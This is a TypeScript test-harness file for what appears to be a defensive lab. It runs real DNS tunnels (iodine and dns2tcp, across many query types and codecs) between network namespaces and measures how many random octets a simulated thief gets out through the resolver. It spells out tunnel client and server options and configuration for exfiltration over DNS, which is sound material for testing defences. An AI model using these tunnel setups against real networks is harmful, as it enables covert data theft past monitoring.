/**
 * Real tunnels over DNS between client-a and the internet namespace: iodine with each query type and codec it offers, dns2tcp with TXT
 * and KEY, in a hurry and slowly. `stealThrough` tries to carry a payload out and measures what arrives at the thief's end. It says
 * nothing of what should arrive.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { INTERNET_ADDRESS, type Lab, RESOLVER_ADDRESS } from './namespaces.ts';
import { eventually, type Running } from './processes.ts';
import { toolPath } from './required-tools.ts';
import { seededRandom } from './seeded-random.ts';
import { thiefDomains } from './thief-domains.ts';

export interface Tunnel {
  readonly name: string;
  readonly kind: 'iodine' | 'dns2tcp';
  /** What the client program is told beside server, zone and password. */
  readonly options: readonly string[];
  /** Whether it falls back to an encoding without upper-case letters when it finds them lowered. */
  readonly survivesLowerCase: boolean;
  /** How fast the payload is handed to the tunnel, octets a second; at once when absent. */
  readonly octetsPerSecond?: number;
}

/** iodine probes the fragment size for half a minute unless told; 768 octets pass every resolver. */
const FRAGMENT = ['-m', '768'] as const;

const iodine = (name: string, ...options: string[]): Tunnel => ({
  name: `iodine ${name}`,
  kind: 'iodine',
  options: options.includes('-m') ? options : [...FRAGMENT, ...options],
  survivesLowerCase: true,
});
const dns2tcp = (name: string, ...options: string[]): Tunnel => ({
  name: `dns2tcp ${name}`,
  kind: 'dns2tcp',
  options,
  survivesLowerCase: false,
});

/** One of each way to look like something else. */
export const TUNNELS: readonly Tunnel[] = [
  iodine('with NULL', '-T', 'NULL'),
  iodine('with TXT', '-T', 'TXT'),
  iodine('with A', '-T', 'A'),
  iodine('with a type of its choice'),
  dns2tcp('with TXT', '-T', 'TXT'),
];

/** Every type with every codec for answers; the codec for names is negotiated and is Base128 wherever it passes. */
const CODECS = ['Base32', 'Base64', 'Base64u', 'Base128'] as const;
const everyCodec = (type: string, codecs: readonly string[]) =>
  codecs.map((codec) => iodine(`with ${type}, ${codec}`, '-T', type, '-O', codec));

/** All that the tools offer; too many for every run. */
export const ALL_TUNNELS: readonly Tunnel[] = [
  ...TUNNELS,
  iodine('with PRIVATE', '-T', 'PRIVATE'),
  ...everyCodec('TXT', [...CODECS, 'Raw']),
  ...['SRV', 'MX', 'CNAME', 'A'].flatMap((type) => everyCodec(type, CODECS)),
  iodine('with CNAME, without lazy mode', '-T', 'CNAME', '-L', '0'),
  iodine('with TXT, small fragments', '-T', 'TXT', '-m', '100'),
  iodine('with A, short names', '-T', 'A', '-M', '150'),
  { ...iodine('with MX, slowly', '-T', 'MX', '-L', '0', '-I', '2', '-m', '150', '-M', '120'), octetsPerSecond: 4_096 },
  dns2tcp('with KEY', '-T', 'KEY'),
  { ...dns2tcp('with TXT, slowly', '-T', 'TXT'), octetsPerSecond: 4_096 },
  { ...dns2tcp('with KEY, slowly', '-T', 'KEY'), octetsPerSecond: 4_096 },
];

const SERVER_PORT = { iodine: 5301, dns2tcp: 5302 } as const;
const SINK_PORT = 9000;
/** What is under way when the tunnel client gives up may still arrive. */
const LAST_OCTETS_MS = 500;
const MAX_LOG_CHARS = 4_000;
const PASSWORD = 'lab';
const IODINE_SERVER = '10.99.0.1';
const DNS2TCP_CLIENT_PORT = 7000;

/** A query that reached a zone of the thief's own. */
export interface OwnedQuery {
  readonly type: number;
  /** Letter case as received. */
  readonly name: string;
  /** All octets that are neither ID nor question, in hex. */
  readonly shape: string;
}

export interface World {
  /** The zone of each tunnel's server. */
  readonly zones: Readonly<Record<Tunnel['kind'], string>>;
  /** Names below tunnel zones that reached the internet since the start, in order. */
  tunnelNames(): readonly string[];
  /** Queries below `ownedZones` that reached the internet since the start, in order. */
  ownedQueries(): readonly OwnedQuery[];
  /** Payload octets that arrived at the thief's end since the start. */
  receivedOctets(): number;
  /** Whether a connection carrying exactly the octets of this SHA-256 arrived whole. */
  receivedDigest(digest: string): boolean;
}

/** Starts the stub, the sink and both tunnel servers in the internet namespace. They end with the lab. */
export async function startWorld(lab: Lab, seed: number, ownedZones: readonly string[] = []): Promise<World> {
  const script = (name: string) => join(import.meta.dirname, name);
  const [forIodine = '', forDns2tcp = ''] = thiefDomains(seededRandom(seed), 2);
  const zones = { iodine: `t.${forIodine}`, dns2tcp: `t.${forDns2tcp}` };
  const relayed = (['iodine', 'dns2tcp'] as const).map((kind) => `${zones[kind]}=${INTERNET_ADDRESS}:${SERVER_PORT[kind]}`);
  const folder = mkdtempSync(join(tmpdir(), 'kennel-lab-world-'));
  const ownedFile = join(folder, 'owned');
  writeFileSync(ownedFile, `${ownedZones.join('\n')}\n`);
  const stub = lab.start('internet', [process.execPath, script('internet-stub.ts'), INTERNET_ADDRESS, `owned=${ownedFile}`, ...relayed]);
  const sink = lab.start('internet', [process.execPath, script('octet-sink.ts'), String(SINK_PORT)]);
  await stub.waitForOutput(/answering/, 10_000);
  await sink.waitForOutput(/sink ready/, 10_000);
  rmSync(folder, { recursive: true });
  await startIodineServer(lab, zones.iodine);
  await startDns2tcpServer(lab, zones.dns2tcp);
  return {
    zones,
    tunnelNames: () => [...stub.stdout().matchAll(/^relay \d+ (\S+)$/gm)].map((match) => decodeURIComponent(match[1] ?? '')),
    ownedQueries: () =>
      [...stub.stdout().matchAll(/^owned (\d+) (\S+) (\S+)$/gm)].map(([, type, name, shape]) => ({
        type: Number(type),
        name: decodeURIComponent(name ?? ''),
        shape: shape ?? '',
      })),
    receivedOctets: () => Number([...sink.stdout().matchAll(/^received (\d+)$/gm)].at(-1)?.[1] ?? 0),
    receivedDigest: (digest) => sink.stdout().includes(`digest ${digest}\n`),
  };
}

async function startIodineServer(lab: Lab, zone: string): Promise<void> {
  const port = String(SERVER_PORT.iodine);
  // -c: a resolver asks from many ports, so the server must not insist on one.
  const argv = ['-f', '-c', '-P', PASSWORD, '-l', INTERNET_ADDRESS, '-p', port, `${IODINE_SERVER}/24`, zone];
  const server = lab.start('internet', [toolPath('iodined'), ...argv]);
  await server.waitForOutput(/Listening to dns/, 5_000);
}

async function startDns2tcpServer(lab: Lab, zone: string): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'kennel-lab-dns2tcp-'));
  const file = join(folder, 'dns2tcpd.conf');
  writeFileSync(
    file,
    `listen = ${INTERNET_ADDRESS}
port = ${SERVER_PORT.dns2tcp}
user = nobody
chroot = ${folder}
domain = ${zone}
resources = sink:127.0.0.1:${SINK_PORT}
`,
  );
  const server = lab.start('internet', [toolPath('dns2tcpd'), '-F', '-d', '1', '-f', file]);
  await server.waitForOutput(/Listening on/, 5_000);
  rmSync(folder, { recursive: true, force: true });
}

export interface TheftResult {
  /** Payload octets that arrived, over all attempts. */
  readonly arrivedOctets: number;
  /** Whether the payload of an attempt arrived whole and unchanged. */
  readonly complete: boolean;
  /** How often the tunnel client was started. */
  readonly attempts: number;
  readonly elapsedMs: number;
  /** The end of what the tunnel clients said. */
  readonly log: string;
}

/**
 * Tries to carry `octets` random octets from client-a to the sink, again and again with a new tunnel client whenever one gives up,
 * until it has worked or `patienceMs` has passed.
 */
export async function stealThrough(lab: Lab, world: World, tunnel: Tunnel, octets: number, patienceMs: number): Promise<TheftResult> {
  const startedMs = performance.now();
  const deadlineMs = startedMs + patienceMs;
  const before = world.receivedOctets();
  let attempts = 0;
  let complete = false;
  let log = '';
  while (!complete && performance.now() < deadlineMs) {
    attempts += 1;
    const attempt = await attemptTheft(lab, world, tunnel, octets, deadlineMs);
    complete = attempt.complete;
    log = (log + attempt.log).slice(-MAX_LOG_CHARS);
  }
  return { arrivedOctets: world.receivedOctets() - before, complete, attempts, elapsedMs: performance.now() - startedMs, log };
}

/** One tunnel client, one payload; ends when the payload is through, the client gives up or the deadline passes. */
async function attemptTheft(lab: Lab, world: World, tunnel: Tunnel, octets: number, deadlineMs: number) {
  const client = startClient(lab, world, tunnel);
  const log = () => client.stdout() + client.stderr();
  const remainingMs = () => deadlineMs - performance.now();
  const ready = tunnel.kind === 'iodine' ? /Connection setup complete/ : /Listening on port/;
  let source: Running | null = null;
  try {
    await eventually(() => ready.test(log()) || client.hasExited(), remainingMs());
    if (!ready.test(log())) return { complete: false, log: log() };
    source = await startSource(lab, tunnel, octets);
    const digest = /^digest (\w+)$/m.exec(source.stdout())?.[1] ?? '';
    const isThrough = () => world.receivedDigest(digest);
    const { hasExited } = source;
    await eventually(() => isThrough() || client.hasExited() || hasExited(), remainingMs());
    const complete = await eventually(isThrough, Math.min(LAST_OCTETS_MS, Math.max(remainingMs(), 0)));
    return { complete, log: log() };
  } finally {
    await source?.kill('SIGKILL');
    await client.kill();
  }
}

async function startSource(lab: Lab, tunnel: Tunnel, octets: number): Promise<Running> {
  const [address, port] = tunnel.kind === 'iodine' ? [IODINE_SERVER, SINK_PORT] : ['127.0.0.1', DNS2TCP_CLIENT_PORT];
  const script = join(import.meta.dirname, 'octet-source.ts');
  const source = lab.start('client-a', [
    process.execPath,
    script,
    address,
    String(port),
    String(octets),
    String(tunnel.octetsPerSecond ?? 0),
  ]);
  await source.waitForOutput(/^digest \w+$/m, 5_000);
  return source;
}

function startClient(lab: Lab, world: World, { kind, options }: Tunnel): Running {
  const zone = world.zones[kind];
  // -r: no attempt at a direct path; the lab has none, and probing for it costs seconds.
  if (kind === 'iodine') return lab.start('client-a', [toolPath('iodine'), '-f', '-r', ...options, '-P', PASSWORD, RESOLVER_ADDRESS, zone]);
  const argv = ['-d', '1', ...options, '-r', 'sink', '-z', zone, '-l', String(DNS2TCP_CLIENT_PORT), RESOLVER_ADDRESS];
  return lab.start('client-a', [toolPath('dns2tcpc'), ...argv]);
}
